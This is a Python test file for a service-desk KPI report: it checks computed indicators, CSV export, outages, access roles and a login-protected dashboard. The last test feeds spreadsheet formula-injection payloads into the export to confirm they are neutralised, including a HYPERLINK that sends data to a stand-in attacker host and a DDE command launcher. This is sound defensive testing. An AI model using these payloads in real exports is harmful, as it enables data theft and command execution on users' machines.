"""The KPI report put together from the services' KPI endpoints (fakes here): values with the
counts behind them, the period sent to every service as exact moments, CSV, a service that is
down or has no KPI endpoint, and the /dasbor page behind the console's login."""
from __future__ import annotations

import csv
import io

from servicedesk_common.settings import SERVICES

INTAKE = {
    "recording": {"total": 52, "web": 37, "by_channel": {"web": 37, "phone": 15},
                  "by_type": {"incident": {"total": 40, "web": 30},
                              "service_request": {"total": 12, "web": 7}},
                  "by_category": {"Jaringan": {"total": 20, "web": 10}}},
    "initial_diagnosis": {"diagnosed": 4, "total_seconds": 1200.0, "mean_seconds": 300.0,
                          "by_priority": {"1": {"diagnosed": 4, "total_seconds": 1200.0,
                                                "mean_seconds": 300.0}}, "by_category": {}},
    "resolution": {"total": 52, "done": 26, "by_priority": {
        "1": {"total": 10, "done": 9}, "2": {"total": 20, "done": 10},
        "none": {"total": 22, "done": 7}}},
    "closure": {"done": 30, "by_priority": {"1": 9}, "by_category": {"Jaringan": 30}},
    "per_day": [{"date": "2026-03-02", "by_priority": {"1": 2, "3": 1}, "total": 3}],
}
TRIAGE = {"classified": 50, "recategorised": 5, "right_first_time": 45, "service_changed": 1,
          "by_category": {"Data": {"classified": 10, "recategorised": 1,
                                   "right_first_time": 9, "service_changed": 0}},
          "by_priority": {}}
TARGET = {"met": 8, "breached": 2, "pending": 1, "total": 11}
SLA = {"tickets": 11, "all": {"response": TARGET, "resolution": TARGET}, "priorities": [
    {"priority": p, "response": TARGET, "resolution": TARGET} for p in (1, 2, 3)]}
COUNT = {"count": 0, "share": None}
COUNTS = {"total": 4, "open": 1, "resolved": 3, "completed_first_group": {"count": 2},
          "reassigned": {"count": 1}, "moved_group": {"count": 1},
          "returned_to_level1": COUNT, "closed_unresolved": COUNT,
          "solved_at_level2": {"count": 3}}
ESCALATION = {**COUNTS, "by_category": {"Jaringan": COUNTS}, "by_priority": {"1": COUNTS}}
SURVEY = {"sent": 6, "answered": 4, "mean_score": 4.25, "follow_ups": 0}
SUMMARY = {"per_question": [{"number": n, "question": f"Q{n}?", "count": 4, "mean": 4.0}
                            for n in range(1, 11)], "per_priority": [], "per_category": []}
KNOWLEDGE = {"known_at_diagnosis": {"count": 2, "of": 30},
             "by_source": {"article": 2, "similar_ticket": 0}}
ANSWERS = {"/api/v1/tickets/kpi": INTAKE, "/api/v1/classifications/kpi": TRIAGE,
           "/api/v1/sla/kpi": SLA, "/api/v1/escalations/kpi": ESCALATION,
           "/api/v1/surveys/kpi": SURVEY, "/api/v1/surveys/summary": SUMMARY,
           "/api/v1/kb/kpi": KNOWLEDGE}


def answering(fake, answers=ANSWERS):
    for path, body in answers.items():
        fake.answers[f"GET {path}"] = lambda request, body=body: (200, body)


def test_every_indicator_comes_with_the_counts_behind_it(gateway, fake_service):
    answering(fake_service)
    gw = gateway()
    response = gw.http.get("/api/v1/reports/kpi?from=2026-03-01&to=2026-03-31",
                           headers=gw.login("supervisor1"))
    assert response.status_code == 200, response.get_data(as_text=True)
    report = response.json
    kpi = report["indicators"]
    assert (report["from"], report["to"]) == ("2026-02-28T17:00:00+00:00",
                                              "2026-03-31T17:00:00+00:00")
    web = kpi["recording_web"]
    assert (web["value"], web["numerator"], web["denominator"]) == (0.7115, 37, 52)
    assert web["by_type"]["service_request"] == {"value": 0.5833, "numerator": 7,
                                                 "denominator": 12}
    assert kpi["categorisation_right_first_time"]["by_category"]["Data"]["numerator"] == 9
    assert kpi["response_target_met"]["by_priority"]["2"] == {
        "value": 0.8, "numerator": 8, "denominator": 10, "breached": 2, "pending": 1}
    assert kpi["initial_diagnosis_time"]["value"] == 300.0
    assert kpi["escalation_right_group"]["value"] == 0.5
    assert kpi["solved_at_level2"]["value"] == 3
    resolved = kpi["tickets_resolved"]["by_priority"]
    assert resolved["1"]["value"] == 0.9 and resolved["3"] == {
        "value": None, "numerator": 0, "denominator": 0}
    assert kpi["tickets_done"]["value"] == 30
    assert kpi["satisfaction_mean"]["value"] == 4.25
    assert kpi["satisfaction_mean"]["by_question"]["10"]["label"] == "Q10?"
    known = kpi["solution_known_at_diagnosis"]
    assert (known["value"], known["numerator"], known["denominator"]) == (2, 2, 30)
    assert len(report["tickets_per_day"]) == 31
    assert report["tickets_per_day"][1] == {"date": "2026-03-02", "1": 2, "2": 0, "3": 1,
                                            "none": 0, "total": 3}
    # Every service was asked for the same exact period, as the supervisor.
    for path in ANSWERS:
        [call] = fake_service.calls("GET", path)
        assert call["args"] == {"from": report["from"], "to": report["to"]}
        assert call["identity"].username == "supervisor1"


def test_a_service_that_is_down_empties_its_indicators_only(gateway, fake_service,
                                                            closed_port_urls):
    answering(fake_service)
    urls = {service: fake_service.url for service in SERVICES}
    del fake_service.answers["GET /api/v1/kb/kpi"]  # a service without the endpoint (404)
    gw = gateway(urls={**urls, "sla": closed_port_urls["sla"]})
    response = gw.http.get("/api/v1/reports/kpi", headers=gw.login("admin"))
    assert response.status_code == 200
    kpi = response.json["indicators"]
    for key in ("response_target_met", "resolution_target_met"):
        assert kpi[key]["value"] is None and "sla" in kpi[key]["note"]
    assert response.json["sources"]["sla"] == {
        "service": "sla", "ok": False, "reason": "unavailable", "note": kpi[key]["note"]}
    assert kpi["recording_web"]["value"] == 0.7115
    known = kpi["solution_known_at_diagnosis"]
    assert known["available"] is False and known["value"] is None and "404" in known["note"]
    assert response.json["sources"]["knowledge"]["reason"] == "not_available"


def test_the_report_as_csv_has_a_row_per_indicator_and_split(gateway, fake_service):
    answering(fake_service)
    gw = gateway()
    headers = gw.login("supervisor1")
    by_accept = gw.http.get("/api/v1/reports/kpi?from=2026-03-01&to=2026-03-31",
                            headers={**headers, "Accept": "text/csv"})
    by_format = gw.http.get("/api/v1/reports/kpi?from=2026-03-01&to=2026-03-31&format=csv",
                            headers=headers)
    assert by_accept.mimetype == by_format.mimetype == "text/csv"
    assert 'filename="kpi_2026-03-01_2026-03-31.csv"' in by_format.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(by_format.get_data(as_text=True))))
    web = [r for r in rows if r["indicator"] == "recording_web" and r["split"] == "all"]
    assert [(r["value"], r["numerator"], r["denominator"]) for r in web] == [
        ("0.7115", "37", "52")]
    high = [r for r in rows if r["indicator"] == "tickets_resolved" and r["split_value"] == "1"]
    assert high[0]["split_label"] == "Tinggi" and high[0]["numerator"] == "9"
    assert {r["indicator"] for r in rows} >= {"solution_known_at_diagnosis",
                                              "satisfaction_mean"}


def test_only_supervisors_and_admins_get_the_report_and_bad_periods_are_422(gateway):
    gw = gateway()
    assert gw.http.get("/api/v1/reports/kpi").status_code == 401
    assert gw.http.get("/api/v1/reports/kpi", headers=gw.login("operator1")).status_code == 403
    headers = gw.login("supervisor1")
    wrong = gw.http.get("/api/v1/reports/kpi?from=maret", headers=headers)
    assert wrong.status_code == 422 and "from" in wrong.json["error"]["details"]
    backwards = gw.http.get("/api/v1/reports/kpi?from=2026-03-31&to=2026-03-01",
                            headers=headers)
    assert backwards.status_code == 422 and "to" in backwards.json["error"]["details"]


def console_login(gw, username: str, page: str = "/staf/masuk"):
    return gw.http.post(page, data={"username": username, "password": gw.password,
                                    "csrf_token": gw.csrf("/staf/masuk")})


def test_the_dashboard_is_behind_the_consoles_login(gateway, fake_service):
    answering(fake_service)
    gw = gateway()
    away = gw.http.get("/dasbor?bulan=2026-03")
    assert away.status_code == 302 and "/staf/masuk?next=/staf/kpi" in away.headers["Location"]
    back = console_login(gw, "supervisor1", away.headers["Location"])
    assert back.headers["Location"].endswith("/staf/kpi")
    assert gw.http.get("/staf/kpi").headers["Location"].endswith("/dasbor")
    console_login(gw, "operator1")
    assert gw.http.get("/dasbor").status_code == 403
    console_login(gw, "supervisor1")
    page = gw.http.get("/dasbor?bulan=2026-03")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Dasbor KPI · Maret 2026" in html
    assert "Februari 2026" in html and "37 dari 52" in html and "71,2%" in html
    assert html.count("<svg") == 3 and "<script>" not in html
    exported = gw.http.get("/dasbor/unduh.csv?bulan=2026-03")
    assert exported.mimetype == "text/csv" and "recording_web" in exported.get_data(as_text=True)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_as_text(gateway,
                                                                        fake_service):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]
    intake = {**INTAKE, "recording": {**INTAKE["recording"], "by_category": {
        name: {"total": 1, "web": 1} for name in formulas}}}
    summary = {**SUMMARY, "per_question": [
        {"number": 1, "question": "=1+1", "count": 4, "mean": 4.0}]}
    answering(fake_service, {**ANSWERS, "/api/v1/tickets/kpi": intake,
                             "/api/v1/surveys/summary": summary})
    gw = gateway()
    response = gw.http.get("/api/v1/reports/kpi?from=2026-03-01&to=2026-03-31&format=csv",
                           headers=gw.login("supervisor1"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    cells = [value for row in rows for value in row.values()]
    split_values = {r["split_value"] for r in rows if r["split"] == "category"}
    assert {"'" + name for name in formulas} <= split_values
    assert "'=1+1" in {r["split_label"] for r in rows}
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
